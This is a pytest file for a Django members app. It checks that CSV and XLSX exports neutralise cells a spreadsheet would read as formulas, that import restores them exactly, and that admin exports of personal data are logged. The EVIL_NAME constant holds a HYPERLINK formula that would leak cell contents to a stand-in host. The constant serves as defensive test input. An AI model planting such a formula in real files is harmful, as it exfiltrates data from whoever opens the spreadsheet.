"""Exports that are safe to open: cells that a spreadsheet would read as a formula are neutralised
in every CSV and XLSX export, and import_members undoes exactly that (core.exports)."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from wagtail.models import ModelLogEntry

from core.exports import neutralise, restore
from members.factories import MemberOrganisationFactory
from members.models import MemberOrganisation

from .members_helpers import world_fixture  # noqa: F401

pytestmark = pytest.mark.django_db

LIST = "/admin/snippets/members/memberorganisation/"
EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+33 1 23 45", "'+33 1 23 45"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=already quoted", "''=already quoted"),
        ("plain name", "plain name"),
        ("it's fine", "it's fine"),
        ("'quoted but harmless", "'quoted but harmless"),
        ("", ""),
    ],
)
def test_neutralise_quotes_formula_cells_and_restore_undoes_it(value, cell):
    assert neutralise(value) == cell
    assert restore(cell) == value


@given(st.text(max_size=30))
def test_restore_undoes_neutralise_for_any_text(value):
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_the_public_csv_writes_a_formula_name_as_text(client, world):
    MemberOrganisationFactory(name=EVIL_NAME, slug="evil-name", region=world["north"], country="KE", city="-Nairobi")
    response = client.get("/en/members.csv?q=hyperlink")
    rows = read_csv(response.content.decode())
    assert [row["name"] for row in rows] == ["'" + EVIL_NAME]
    assert rows[0]["city"] == "'-Nairobi"
    # The JSON is not a spreadsheet: it keeps the name as it is.
    assert client.get("/en/members.json?q=hyperlink").json()["members"][0]["name"] == EVIL_NAME


def test_a_formula_name_round_trips_through_the_public_csv_and_the_import(client, world, tmp_path):
    MemberOrganisationFactory(name=EVIL_NAME, slug="evil-name", region=world["north"], country="KE", city="-Nairobi")
    exported = client.get("/en/members.csv?q=hyperlink").content.decode()
    MemberOrganisation.objects.filter(slug="evil-name").update(name="Changed", city="Changed")
    path = tmp_path / "members.csv"
    path.write_text(exported, encoding="utf-8")
    call_command("import_members", str(path), stdout=io.StringIO())
    member = MemberOrganisation.objects.get(slug="evil-name")
    assert (member.name, member.city) == (EVIL_NAME, "-Nairobi")
    # Importing the same file again changes nothing.
    out = io.StringIO()
    call_command("import_members", str(path), stdout=out)
    assert "Created: 0; updated: 0; unchanged: 1." in out.getvalue()


def test_the_admin_csv_export_neutralises_and_imports_back(admin_client, world, tmp_path):
    MemberOrganisationFactory(name=EVIL_NAME, slug="evil-name", region=world["north"], country="KE")
    response = admin_client.get(f"{LIST}?export=csv&q=evil")
    text = b"".join(response.streaming_content).decode()
    rows = read_csv(text)
    assert [row["name"] for row in rows] == ["'" + EVIL_NAME]
    MemberOrganisation.objects.filter(slug="evil-name").update(name="Changed")
    path = tmp_path / "admin.csv"
    path.write_text(text, encoding="utf-8")
    call_command("import_members", str(path), stdout=io.StringIO())
    assert MemberOrganisation.objects.get(slug="evil-name").name == EVIL_NAME


def test_the_admin_xlsx_export_holds_text_not_a_formula(admin_client, world):
    MemberOrganisationFactory(name=EVIL_NAME, slug="evil-name", region=world["north"], country="KE")
    response = admin_client.get(f"{LIST}?export=xlsx&q=evil")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("name") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL_NAME


def test_an_admin_export_of_personal_data_is_recorded(admin_client, superuser, world):
    admin_client.get(f"{LIST}?export=csv&region={world['north'].pk}")
    entry = ModelLogEntry.objects.filter(action="icrtop.export_personal_data").latest("timestamp")
    assert entry.user == superuser
    assert entry.data["format"] == "csv" and entry.data["rows"] == 5
